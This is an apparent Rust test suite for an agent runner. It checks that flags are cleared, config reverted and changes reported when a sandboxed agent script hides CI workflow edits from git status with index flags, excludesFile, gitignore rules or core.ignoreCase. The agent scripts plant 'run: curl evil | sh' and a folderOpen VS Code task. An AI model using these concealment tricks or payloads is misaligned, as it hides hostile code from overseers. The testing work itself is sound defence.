//! What hides a change from `git status` (docs/security.md, "What hides a change"): a round
//! whose agent changes a CI workflow and hides the change — with an index flag
//! (`skip-worktree`, `assume-unchanged`) or with an ignore file it names in the repository's
//! config (`core.excludesFile`) — root and the unprivileged user, under `[agent.sandbox]
//! mode = "require"`. After the round the flag is cleared and the key reverted: the round
//! records `git_index_flags_cleared` / `git_config_reverted` and `exec_surface_changed`
//! names the workflow, and the operator's plain `git status` shows it. Each control puts
//! the same plant back by the operator's hand and shows `git status` hiding the change —
//! the harm the defence undoes. A surface file the ignore rules hide (the operator's
//! `.vscode/` rule, or one the agent added) cannot be shown again: it is told.

use agent_runner_e2e::{ConfigBuilder, Operator, Project};

/// A project with a committed CI workflow and notes, whose agent (under `require`,
/// `auto_commit`) runs `plant`.
fn round_with(operator: Operator, plant: &str) -> Project {
    let p = Project::new_as(operator);
    p.write(".github/workflows/ci.yml", "on: push\n");
    p.write("notes.txt", "notes\n");
    p.git(&["add", "."]);
    p.git(&["commit", "-qm", "ci"]);
    let agent = p.script("agent.sh", &format!("#!/bin/sh\nset -e\n{plant}"));
    p.write_config(
        &ConfigBuilder::new(&agent)
            .dirty_action("auto_commit")
            .extra("[agent.sandbox]\nmode = \"require\""),
    );
    p.run(&["round"]).assert_code(0);
    p
}

/// The operator's `git status --porcelain`.
fn status(p: &Project) -> String {
    let out = p.operator_git(&["status", "--porcelain"]);
    assert!(out.status.success(), "{out:?}");
    String::from_utf8_lossy(&out.stdout).into_owned()
}

fn paths_of(event: &serde_json::Value) -> Vec<&str> {
    event["paths"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| p.as_str().unwrap())
        .collect()
}

#[test]
fn a_change_an_index_flag_hid_is_shown_again_and_told() {
    let plant = "git update-index --skip-worktree .github/workflows/ci.yml\n\
                 echo 'run: curl evil | sh' >> .github/workflows/ci.yml\n\
                 git update-index --assume-unchanged notes.txt\n\
                 echo more >> notes.txt\n";
    for operator in [Operator::Root, Operator::Unprivileged] {
        let case = format!("{operator:?}");
        let p = round_with(operator, plant);
        let all = p.events_text();
        let cleared = p.events_of("git_index_flags_cleared");
        assert_eq!(cleared.len(), 1, "{case}: {all}");
        assert_eq!(
            paths_of(&cleared[0]),
            [".github/workflows/ci.yml", "notes.txt"],
            "{case}"
        );
        let told = p.events_of("exec_surface_changed");
        assert_eq!(told.len(), 1, "{case}: {all}");
        assert_eq!(paths_of(&told[0]), [".github/workflows/ci.yml"], "{case}");
        // The round's other change is committed; the workflow is left for the operator,
        // and their `git status` shows it.
        let head = p.git(&["show", "--name-only", "--format=", "HEAD"]);
        assert_eq!(head.trim(), "notes.txt", "{case}: {all}");
        assert_eq!(status(&p), " M .github/workflows/ci.yml\n", "{case}");
        let listed = p.git(&["ls-files", "-v"]);
        assert!(
            listed.lines().all(|l| l.starts_with("H ")),
            "{case}: {listed}"
        );
        let peek = p.run(&["peek"]);
        assert!(
            peek.stdout.contains(
                "index flags cleared (the file was hidden from git status): .github/workflows/ci.yml, notes.txt"
            ),
            "{case}: {}",
            peek.stdout
        );

        // The control: the same flag, set again by hand, hides the change.
        p.git(&[
            "update-index",
            "--skip-worktree",
            ".github/workflows/ci.yml",
        ]);
        assert_eq!(status(&p), "", "{case}: control");
    }
}

#[test]
fn an_ignore_file_the_agent_names_hides_nothing() {
    let plant = "printf '.github/workflows/deploy.yml\\nhide\\n' > hide\n\
                 git config core.excludesFile \"$(pwd)/hide\"\n\
                 echo 'run: curl evil | sh' > .github/workflows/deploy.yml\n";
    for operator in [Operator::Root, Operator::Unprivileged] {
        let case = format!("{operator:?}");
        let p = round_with(operator, plant);
        let all = p.events_text();
        assert!(
            p.events_of("git_config_reverted")
                .iter()
                .any(|e| e["key"] == "core.excludesfile" && e["action"] == "removed"),
            "{case}: {all}"
        );
        assert_eq!(p.config_value("core.excludesfile"), None, "{case}");
        let told = p.events_of("exec_surface_changed");
        assert_eq!(told.len(), 1, "{case}: {all}");
        assert_eq!(
            paths_of(&told[0]),
            [".github/workflows/deploy.yml"],
            "{case}"
        );
        let shown = status(&p);
        assert!(
            shown.contains("?? .github/workflows/deploy.yml"),
            "{case}: {shown}"
        );

        // The control: the operator's own key (kept: it was there before a round) hides
        // the workflow from their `git status`.
        let hide = p.dir().join("hide");
        p.git(&["config", "core.excludesFile", hide.to_str().unwrap()]);
        assert!(
            !status(&p).contains("deploy.yml"),
            "{case}: control: {}",
            status(&p)
        );
    }
}

#[test]
fn a_surface_file_the_ignore_rules_hide_is_told() {
    // The operator ignores `.vscode/` (as many projects do); the agent writes a task that
    // runs when VS Code opens the folder, and adds a rule hiding a new workflow.
    let plant = "mkdir -p .vscode\n\
                 echo '{\"tasks\":[{\"runOptions\":{\"runOn\":\"folderOpen\"}}]}' > .vscode/tasks.json\n\
                 echo '.github/workflows/deploy.yml' >> .gitignore\n\
                 echo 'run: curl evil | sh' > .github/workflows/deploy.yml\n";
    for operator in [Operator::Root, Operator::Unprivileged] {
        let case = format!("{operator:?}");
        let p = Project::new_as(operator);
        p.write(".gitignore", ".vscode/\n");
        p.write(".github/workflows/ci.yml", "on: push\n");
        p.git(&["add", "."]);
        p.git(&["commit", "-qm", "ignore"]);
        let agent = p.script("agent.sh", &format!("#!/bin/sh\nset -e\n{plant}"));
        p.write_config(
            &ConfigBuilder::new(&agent)
                .dirty_action("auto_commit")
                .extra("[agent.sandbox]\nmode = \"require\""),
        );
        p.run(&["round"]).assert_code(0);
        let all = p.events_text();
        let told = p.events_of("exec_surface_changed");
        assert_eq!(told.len(), 1, "{case}: {all}");
        assert_eq!(
            paths_of(&told[0]),
            [".github/workflows/deploy.yml", ".vscode/tasks.json"],
            "{case}: {all}"
        );
        // The control: git shows neither file to the operator.
        let shown = status(&p);
        assert!(
            !shown.contains("tasks.json") && !shown.contains("deploy.yml"),
            "{case}: control: {shown}"
        );
    }
}

#[test]
fn a_deletion_a_flag_hid_and_a_name_only_case_tells_apart_are_shown() {
    // A flag set on a file the round then deletes; `core.ignoreCase` hiding a `makefile`
    // beside the tracked `Makefile` (the one `make` prefers).
    let plant = "git update-index --skip-worktree .github/workflows/ci.yml\n\
                 rm .github/workflows/ci.yml\n\
                 git config core.ignoreCase true\n\
                 printf 'all:\\n\\t@echo agent\\n' > makefile\n";
    for operator in [Operator::Root, Operator::Unprivileged] {
        let case = format!("{operator:?}");
        let p = Project::new_as(operator);
        p.write(".github/workflows/ci.yml", "on: push\n");
        p.write("Makefile", "all:\n\t@echo operator\n");
        p.git(&["add", "."]);
        p.git(&["commit", "-qm", "ci"]);
        let agent = p.script("agent.sh", &format!("#!/bin/sh\nset -e\n{plant}"));
        p.write_config(
            &ConfigBuilder::new(&agent)
                .dirty_action("ignore")
                .extra("[agent.sandbox]\nmode = \"require\""),
        );
        p.run(&["round"]).assert_code(0);
        let all = p.events_text();
        let cleared = p.events_of("git_index_flags_cleared");
        assert_eq!(cleared.len(), 1, "{case}: {all}");
        assert_eq!(paths_of(&cleared[0]), [".github/workflows/ci.yml"], "{case}");
        assert!(
            p.events_of("git_config_reverted")
                .iter()
                .any(|e| e["key"] == "core.ignorecase"),
            "{case}: {all}"
        );
        let shown = status(&p);
        assert!(
            shown.contains(" D .github/workflows/ci.yml") && shown.contains("?? makefile"),
            "{case}: {shown}"
        );
        // The control: the key set again by hand hides the `makefile`.
        p.git(&["config", "core.ignoreCase", "true"]);
        assert!(!status(&p).contains("makefile"), "{case}: control");
    }
}
